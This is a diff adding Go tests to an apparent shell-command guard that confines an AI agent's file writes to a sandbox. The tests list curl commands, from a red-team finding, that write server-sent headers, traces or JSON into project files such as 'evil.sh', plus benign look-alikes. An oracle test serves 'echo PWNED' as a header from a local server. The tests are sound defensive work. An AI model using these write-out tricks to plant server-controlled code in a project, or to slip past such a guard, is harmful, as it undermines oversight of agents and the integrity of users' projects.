@@ -227,3 +227,93 @@ func TestSystemWgetrc(t *testing.T) {
 		t.Errorf("wget with SYSTEM_WGETRC did not save where output_document says: %v", err)
 	}
 }
+
+// TestCurlServerTextStreams (red team acq): what the server sends
+// besides the body reached a project file through a descriptor: a -w
+// format's %header{NAME}, %{content_type}, %{redirect_url}, %{json}
+// (curl -s -o /dev/null -w '%header{x}' URL > f), after %{stderr} with
+// 2> f, and the header dump or a trace written to stdout or stderr (-D -,
+// --trace-ascii /dev/stderr 2> f), all allowed while -D f itself moves.
+// They move into the sandbox as the body does. Look-alikes: a format of
+// the transfer's numbers, an escaped %%, nothing redirected to a file.
+func TestCurlServerTextStreams(t *testing.T) {
+	t.Parallel()
+	u := " https://h.example/a"
+	testRule(t, "curl", []ruleCase{
+		{"curl -s -o /dev/null -w '%header{x}'" + u + " > evil.sh", Rewrite},
+		{"curl -s -o /dev/null -w '%{stderr}%header{x}'" + u + " 2> evil.sh", Rewrite},
+		{"curl -s -o /dev/null -w '%{stderr}%header{x}'" + u + " 2>&1 | tee evil.sh", Rewrite},
+		{"curl -s -o /dev/null -w '%{content_type}'" + u + " > evil.sh", Rewrite},
+		{"curl -s -o /dev/null -w '%{redirect_url}'" + u + " > evil.sh", Rewrite},
+		{"curl -s -o /dev/null -w '%{json}'" + u + " > evil.json", Rewrite},
+		{"curl -s -o /dev/null -w '%{header_json}'" + u + " | jq . > evil.json", Rewrite},
+		{"curl -s -D - -o /dev/null" + u + " > evil.sh", Rewrite},
+		{"curl -s -D /dev/stderr -o /dev/null" + u + " 2> evil.sh", Rewrite},
+		{"curl -s --trace-ascii % -o /dev/null" + u + " 2> evil.sh", Rewrite},
+		{"curl -s -o /dev/null -w '%{http_code}'" + u + " > code.txt", Allow},
+		{"curl -s -o /dev/null -w '%{time_total} %{size_download}\\n'" + u + " >> times.txt", Allow},
+		{"curl -s -o /dev/null -w '%{stderr}%{http_code}'" + u + " 2> code.txt", Allow},
+		{"curl -s -o /dev/null -w '%{stderr}%header{x}'" + u + " > out.txt", Allow},
+		{"curl -s -o /dev/null -w '%%header{x}'" + u + " > out.txt", Allow},
+		{"curl -s -o /dev/null -w '%header{x}'" + u, Allow},
+		{"curl -s -D - -o /dev/null" + u, Allow},
+		{"curl -s -D /dev/null -o /dev/null" + u + " > out.txt", Allow},
+	})
+}
+
+// TestCurlServerTextStreamsOracle runs the write-out attack with the real
+// curl against a loopback server that sends the code as a header: it
+// lands in the project's file as written, and in the sandbox rewritten.
+func TestCurlServerTextStreamsOracle(t *testing.T) {
+	t.Parallel()
+	curl, err := exec.LookPath("curl")
+	if err != nil {
+		t.Skip("no curl")
+	}
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("no bash")
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("X", "echo PWNED")
+		w.Write([]byte("body\n"))
+	}))
+	defer srv.Close()
+	for _, tmpl := range []string{
+		"curl -s -o /dev/null -w '%header{x}' URL > evil.sh",
+		"curl -s -o /dev/null -w '%{stderr}%header{x}' URL 2> evil.sh",
+	} {
+		t.Run(tmpl, func(t *testing.T) {
+			cmd := strings.ReplaceAll(tmpl, "URL", srv.URL+"/a")
+			run := func(dir, text string) {
+				c := exec.Command(bash, "-c", text)
+				c.Dir = dir
+				c.Env = []string{"PATH=" + filepath.Dir(curl) + ":/usr/bin:/bin", "HOME=" + dir}
+				if out, err := c.CombinedOutput(); err != nil {
+					t.Errorf("%s: %v %s", text, err, out)
+				}
+			}
+			plain := t.TempDir()
+			run(plain, cmd)
+			if b, _ := os.ReadFile(filepath.Join(plain, "evil.sh")); string(b) != "echo PWNED" {
+				t.Skipf("this curl does not write %%header (got %q)", b)
+			}
+			proj := t.TempDir()
+			sb := filepath.Join(proj, "agent_sandbox")
+			if err := os.Mkdir(sb, 0o755); err != nil {
+				t.Fatal(err)
+			}
+			r := Check(&Config{Cwd: proj, Project: proj, Home: proj, Sandbox: sb, Mode: ModeRewrite, Approve: ApproveAuto}, cmd)
+			if r.Decision != Rewrite {
+				t.Fatalf("%s: %s %v, want rewrite", cmd, r.Decision, r.Findings)
+			}
+			run(proj, r.Rewritten)
+			if _, err := os.Stat(filepath.Join(proj, "evil.sh")); err == nil {
+				t.Errorf("the rewritten %s left evil.sh in the project", r.Rewritten)
+			}
+			if b, _ := os.ReadFile(filepath.Join(sb, "evil.sh")); string(b) != "echo PWNED" {
+				t.Errorf("the rewritten %s left %q in the sandbox's evil.sh", r.Rewritten, b)
+			}
+		})
+	}
+}
